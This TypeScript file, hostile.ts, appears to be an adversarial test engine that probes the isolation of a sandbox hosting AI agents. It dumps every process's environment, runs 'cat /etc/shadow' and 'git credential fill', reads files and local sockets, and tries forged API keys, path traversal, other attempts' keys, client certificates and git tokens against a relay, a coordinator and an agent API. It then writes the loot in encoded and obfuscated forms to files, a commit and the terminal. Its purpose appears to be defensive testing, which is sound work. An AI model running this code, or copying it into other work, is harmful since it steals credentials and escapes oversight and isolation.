/**
 * An engine that does its worst with what it has: it reads all that its user may read, says it in many forms, and uses the
 * gateway, the relays of other attempts and the APIs of the agent and the coordinator in every wrong way it can think of.
 * Copied to a test host and started there as `node hostile.ts DOOR HOME`, with the rights of any engine. What came of each
 * wrong use it leaves in `/tmp/tries.json`.
 */
import { execFileSync } from 'node:child_process';
import { lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { request as httpRequest, type ClientRequest } from 'node:http';
import { request as httpsRequest } from 'node:https';
import { connect } from 'node:net';
import { homedir } from 'node:os';
import path from 'node:path';

/** What was tried, and how it was answered. */
export interface Try {
  readonly what: string;
  /** Of HTTP; 0: there was no answer. For programs: the exit code. */
  readonly status: number;
  readonly said: string;
}

const [, , door = '', home = '', order = 'all'] = process.argv;

async function work(): Promise<void> {
  const loot = [...environments(), ...programs(), ...files(home), ...files('/tmp')];
  loot.push(...files(homedir()), ...(await sockets()));
  const all = loot.join('\n');
  const tries = [...(await atRelays()), ...(await atDoor()), ...(await atAgent()), ...withGit()];
  writeFileSync('/tmp/tries.json', JSON.stringify(tries));
  spread(all);
}

/** `node hostile.ts DOOR HOME key`: one call with a key that is given on standard input. */
async function withKey(key: string): Promise<Try> {
  return await ask('a given key', `${door}/models/anthropic/v1/messages`, key, certificate());
}

/** To the terminal, into files and into a commit, as it is and hidden. */
function spread(all: string): void {
  const bytes = Buffer.from(all);
  const forms = {
    'loot.txt': all,
    'loot.b64': bytes.toString('base64'),
    'loot.hex': bytes.toString('hex'),
    'loot.url': encodeURIComponent(bytes.toString('latin1')),
    'loot.rev': Buffer.from(bytes.toReversed()).toString('latin1'),
  };
  for (const [name, text] of Object.entries(forms)) writeFileSync(name, text);
  writeFileSync('notes.txt', 'hostile\n');
  execFileSync('git', ['add', '-A']);
  const who = ['-c', 'user.name=x', '-c', 'user.email=x@example.com'];
  execFileSync('git', [...who, 'commit', '-qm', `Loot\n\n${all.slice(0, 4_000)}`], {
    stdio: 'ignore',
  });
  process.stdout.write(`${all}\n${forms['loot.b64'].replaceAll(/.{60}/g, '$&\n')}\n`);
  process.stdout.write(all.slice(0, 200_000).replaceAll(/.{5}/g, '$&\u001b[0m'));
  process.stderr.write(forms['loot.rev'].slice(0, 200_000));
}

const MOST_FILE = 32_000;
const MOST_LOOT = 400_000;
/** Programs and what they are made of: nothing was written there. */
const DULL = /node_modules|\.pack$|\.idx$/;

function files(dir: string): string[] {
  const found: string[] = [];
  let left = MOST_LOOT;
  const look = (place: string): void => {
    for (const name of attempt(() => readdirSync(place), [])) {
      const file = path.join(place, name);
      const stat = attempt(() => lstatSync(file), null);
      if (left <= 0 || DULL.test(file)) continue;
      if (stat?.isDirectory()) look(file);
      if (!stat?.isFile()) continue;
      const text = attempt(() => readFileSync(file, 'latin1'), '').slice(0, MOST_FILE);
      left -= text.length;
      found.push(`== ${file}\n${text}`);
    }
  };
  look(dir);
  return found;
}

function environments(): string[] {
  const pids = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  return pids.flatMap((pid) =>
    ['cmdline', 'environ'].map((part) => {
      const text = attempt(() => readFileSync(`/proc/${pid}/${part}`, 'latin1'), '');
      return `== ${pid} ${part}\n${text.replaceAll('\0', '\n')}`;
    }),
  );
}

function programs(): string[] {
  const commands = [
    'git config --list --show-origin',
    'git remote -v',
    'printf "protocol=https\\nhost=github.com\\n\\n" | git credential fill',
    `printf "protocol=https\\nhost=${new URL(door).host}\\n\\n" | git credential fill`,
    'ps axwwe; id; mount; cat /etc/shadow; sudo -n cat /etc/shadow',
  ];
  return commands.map((command) => `== ${command}\n${run(command).said}`);
}

/** What supervisors tell whoever connects. */
async function sockets(): Promise<string[]> {
  const found = run(`find ${home} /tmp -type s`)
    .said.split('\n')
    .filter((name) => name !== '');
  return await Promise.all(
    found.map(async (name) => {
      const chunks: Buffer[] = [];
      const socket = connect(name).on('data', (chunk) => chunks.push(chunk));
      const { promise, resolve } = Promise.withResolvers<void>();
      socket.on('error', resolve).on('close', resolve).setTimeout(500, resolve);
      await promise;
      socket.destroy();
      return `== ${name}\n${Buffer.concat(chunks).toString()}`;
    }),
  );
}

/** Its own relay with other keys and for other things, and whatever else listens on this machine with its own key. */
async function atRelays(): Promise<Try[]> {
  const own = new URL(process.env['ANTHROPIC_BASE_URL'] ?? '');
  const key = process.env['ANTHROPIC_API_KEY'] ?? '';
  const messages = '/models/anthropic/v1/messages';
  const tries = [];
  for (const wrong of ['', 'guessed', `kbm_${otherAttempt()}_${'0'.repeat(64)}`])
    tries.push(ask(`own relay, key ${wrong.slice(0, 4)}`, `${own.origin}${messages}`, wrong));
  for (const place of ['/api/v1/tasks', '/models/openai/v1/files', '/models/anthropic/v1/files'])
    tries.push(ask(`own relay ${place}`, `${own.origin}${place}`, key));
  tries.push(ask('own relay, climbing', `${own.origin}/models/anthropic/%2e%2e/%2e%2e/api`, key));
  for (const port of listening().filter((one) => String(one) !== own.port))
    tries.push(ask('another port', `http://127.0.0.1:${port}${messages}`, key));
  return await Promise.all(tries);
}

/** The coordinator, with the certificate of the agent that it runs on, and without. */
async function atDoor(): Promise<Try[]> {
  const key = process.env['ANTHROPIC_API_KEY'] ?? '';
  const others = `kbm_${otherAttempt()}_${'0'.repeat(64)}`;
  const models = `${door}/models/anthropic/v1/models`;
  const tries: Try[] = [];
  for (const place of ['/api/v1/tasks', '/api/v1/accounts'])
    tries.push(await ask(`door ${place}`, `${door}${place}`, key, certificate()));
  tries.push(await ask("door, the relay's key", models, key, certificate()));
  tries.push(await ask("door, another attempt's key", models, others, certificate()));
  tries.push(await ask('door, no certificate', models, others));
  return tries;
}

async function atAgent(): Promise<Try[]> {
  const api = 'http://127.0.0.1:8081';
  return await Promise.all([
    ask('agent /status', `${api}/status`, '', undefined, 'GET'),
    ask('agent /execute_task', `${api}/execute_task`, 'guessed'),
  ]);
}

/** The coordinator's repositories, as itself and as another, with tokens that it made up; and where its own tree leads. */
function withGit(): Try[] {
  const { cert, key, ca } = paths();
  const tls = `-c http.sslCert=${cert} -c http.sslKey=${key} -c http.sslCAInfo=${ca}`;
  const told = files(path.join(home, 'state/attempts')).join('\n');
  const names = new Set([...told.matchAll(/\/git\/([a-z0-9-]+)\.git/g)].map(([, name]) => name));
  const tries: Try[] = [];
  for (const user of [process.env['KOUBOU_ATTEMPT'] ?? '', otherAttempt()])
    for (const name of [...names, 'vault-0123456789']) {
      const basic = Buffer.from(`${user}:${'0'.repeat(64)}`).toString('base64');
      const header = `-c http.extraHeader="Authorization: Basic ${basic}"`;
      const url = `${door}/git/${name}.git`;
      tries.push({ ...run(`git ${tls} ${header} ls-remote ${url}`), what: 'git with a token' });
    }
  tries.push({ ...run('git push origin HEAD:refs/heads/main'), what: 'git push origin' });
  tries.push({ ...run('git fetch origin'), what: 'git fetch origin' });
  return tries;
}

function otherAttempt(): string {
  const own = process.env['KOUBOU_ATTEMPT'] ?? '';
  const all = attempt(() => readdirSync(path.join(home, 'state/attempts')), []);
  return all.find((name) => name !== own) ?? 'task-99.1';
}

function listening(): number[] {
  const lines = readFileSync('/proc/net/tcp', 'utf8').split('\n');
  return lines
    .map((line) => line.trim().split(/\s+/))
    .filter(([, , , state]) => state === '0A')
    .map(([, local = '']) => Number.parseInt(local.split(':')[1] ?? '', 16))
    .filter((port) => port !== 22 && port !== 8_081);
}

function paths(): { cert: string; key: string; ca: string } {
  const at = (name: string): string => path.join(home, 'identity', name);
  return { cert: at('cert.pem'), key: at('key.pem'), ca: at('ca.pem') };
}

function certificate(): { cert: string; key: string } {
  const { cert, key } = paths();
  return { cert: readFileSync(cert, 'utf8'), key: readFileSync(key, 'utf8') };
}

async function ask(
  what: string,
  url: string,
  key: string,
  tls?: { cert: string; key: string },
  method = 'POST',
): Promise<Try> {
  const headers = { 'x-api-key': key, authorization: `Bearer ${key}` };
  const { promise, resolve } = Promise.withResolvers<Try>();
  const gone = (error: Error): void => resolve({ what, status: 0, said: error.message });
  const call: ClientRequest = url.startsWith('https:')
    ? httpsRequest(url, { method, headers, ...tls, rejectUnauthorized: false, agent: false })
    : httpRequest(url, { method, headers, agent: false });
  call.on('error', gone).on('response', (answer) => {
    let said = '';
    answer.setEncoding('utf8').on('data', (text: string) => (said += text));
    answer.on('end', () => resolve({ what, status: answer.statusCode ?? 0, said }));
  });
  call.setTimeout(5_000, () => call.destroy(new Error('no answer')));
  call.end(method === 'POST' ? '{}' : undefined);
  return await promise;
}

function run(command: string): Try {
  try {
    const env = { ...process.env, GIT_TERMINAL_PROMPT: '0' };
    const said = execFileSync('sh', ['-c', `${command} 2>&1`], { encoding: 'utf8', env });
    return { what: command, status: 0, said };
  } catch (error) {
    const { status = 1, stdout = '' } = error as { status?: number; stdout?: string };
    return { what: command, status, said: stdout };
  }
}

function attempt<T>(read: () => T, none: T): T {
  try {
    return read();
  } catch {
    // It is not ours to read, or has gone.
    return none;
  }
}

if (order === 'all') await work();
else process.stdout.write(JSON.stringify(await withKey(readFileSync(0, 'utf8'))));
